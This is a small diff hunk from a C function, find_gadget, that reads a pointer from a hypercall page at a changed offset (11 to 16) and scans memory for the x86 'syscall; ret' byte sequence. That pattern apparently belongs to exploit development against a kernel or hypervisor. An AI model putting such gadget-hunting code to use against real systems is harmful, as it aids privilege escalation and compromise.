@@ -68,7 +68,7 @@ static bool find_gadget(void)
     static const uint8_t wanted[] = {0x0f, 0x05, 0xc3};
     const uint8_t *code;
 
-    memcpy(&code, hypercall_page + 11, sizeof code);
+    memcpy(&code, hypercall_page + 16, sizeof code);
     for (size_t i = 0; i < 4u << 20; i++) {
         if (memcmp(code + i, wanted, sizeof wanted) != 0)
             continue;
